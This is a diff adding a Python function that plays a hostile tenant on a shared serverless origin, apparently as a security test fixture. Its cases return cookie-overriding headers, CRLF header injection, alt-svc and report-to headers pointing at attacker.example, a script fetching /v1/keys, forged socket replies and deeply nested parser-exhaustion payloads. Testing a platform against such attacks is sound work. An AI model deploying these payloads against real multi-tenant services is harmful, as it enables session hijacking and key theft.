@@ -1,0 +1,84 @@
+"""A hostile tenant's web function: each `?case=` answers with one attack on the shared origin.
+
+Header cases return {statusCode, headers, body} as any http function may; the
+`deep-*` and `control-output` cases attack the gateway's parsing and the CLI.
+"""
+
+import os
+import socket
+import sys
+
+DEPTH = 100_000
+SCRIPT = "<script>fetch('/v1/keys').then(r => r.text()).then(alert)</script>"
+
+CASES = {
+    "cookie-root": {"set-cookie": "session=stolen; Path=/; Secure; HttpOnly"},
+    "cookie-domain": {"set-cookie": "session=stolen; Domain=127.0.0.1; Path=/fn/sec-reply"},
+    "cookie-other-path": {"set-cookie": "session=stolen; Path=/fn/web"},
+    "cookie-prefix-sibling": {"set-cookie": "session=stolen; Path=/fn/sec-replyx"},
+    "cookie-host-prefix": {"set-cookie": "__Host-session=stolen; Path=/; Secure"},
+    "cookie-own-path": {"set-cookie": "pref=1; Path=/fn/sec-reply/sub; Secure"},
+    "cookie-no-path": {"set-cookie": "pref=1; Secure"},
+    "hsts": {"strict-transport-security": "max-age=0"},
+    "cors-credentials": {"access-control-allow-origin": "*",
+                         "access-control-allow-credentials": "true"},
+    "alt-svc": {"alt-svc": 'h2="attacker.example:443"; ma=2592000'},
+    "clear-site-data": {"clear-site-data": '"cookies", "storage"'},
+    "nel": {"nel": '{"report_to": "x", "max_age": 31536000}',
+            "report-to": '{"group": "x", "max_age": 31536000, '
+                         '"endpoints": [{"url": "https://attacker.example/"}]}'},
+    "service-worker": {"service-worker-allowed": "/",
+                       "content-type": "text/javascript"},
+    "html-script": {"content-type": "text/html"},
+    "csp-loose": {"content-type": "text/html",
+                  "content-security-policy": "default-src * 'unsafe-inline' 'unsafe-eval'"},
+    "sniff": {"x-content-type-options": "sniff", "content-type": "text/plain"},
+    "non-latin1": {"x-tenant": "snow\u2603man"},
+    "control-char": {"x-tenant": "a\x01b"},
+    "delete-char": {"x-tenant": "a\x7fb"},
+    "c1-control": {"x-tenant": "a\x85b"},
+    "crlf": {"x-tenant": "a\r\nset-cookie: injected=1"},
+    "bad-name": {"x tenant": "a"},
+}
+
+
+def _call_socket():
+    """The runtime's socket for this call, found up the stack as an attacker would."""
+    frame = sys._getframe(1)
+    while frame is not None:
+        sock = frame.f_locals.get("sock")
+        if isinstance(sock, socket.socket):
+            return sock.fileno()
+        frame = frame.f_back
+    return -1
+
+
+def _forge(head, body):
+    """Write a reply on the call socket before the runtime writes the real one."""
+    frames = b"".join(len(p).to_bytes(4, "big") + p for p in (head, body))
+    os.write(_call_socket(), frames)
+
+
+def handler(event, context):
+    query = event.get("query") or {}
+    case = query.get("case") or event.get("case", "")
+    if case == "deep-body":  # a reply the gateway must parse: 100,000 levels deep
+        _forge(b'{"ok":true,"out":""}', b"[" * DEPTH + b"]" * DEPTH)
+        return None
+    if case == "deep-head":  # the reply's own head, as deep
+        _forge(b"[" * DEPTH + b"]" * DEPTH, b"{}")
+        return None
+    if case == "nested":  # an honest return value, just deeper than the gateway takes
+        value = []
+        for _ in range(300):
+            value = [value]
+        return {"statusCode": 200, "body": value}
+    if case == "surrogate-body":
+        return {"statusCode": 200, "headers": {"content-type": "text/plain"}, "body": "\ud800"}
+    if case == "control-output":  # output that would drive the terminal of whoever reads it
+        print(query.get("text", ""))
+        return {"printed": True}
+    headers = CASES.get(case)
+    if headers is None:
+        return {"statusCode": 404, "body": "no such case"}
+    return {"statusCode": 200, "headers": headers, "body": "hello " + SCRIPT}
